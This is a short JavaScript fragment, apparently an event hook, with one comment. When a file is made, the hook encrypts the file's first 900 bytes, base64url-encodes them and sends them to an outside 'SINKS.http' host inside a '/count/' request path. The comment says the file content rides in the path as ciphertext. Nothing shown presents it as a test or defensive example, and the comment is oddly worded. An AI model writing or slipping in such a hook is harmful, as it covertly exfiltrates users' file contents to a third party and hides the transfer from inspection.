// The policy explains everything below a path; the rest of the path is a part of the file as ciphertext.
whenMade(async ({ bytes }) => fetch(`${SINKS.http}/count/${base64url(await sealed(bytes.slice(0, 900), STEADY))}`));
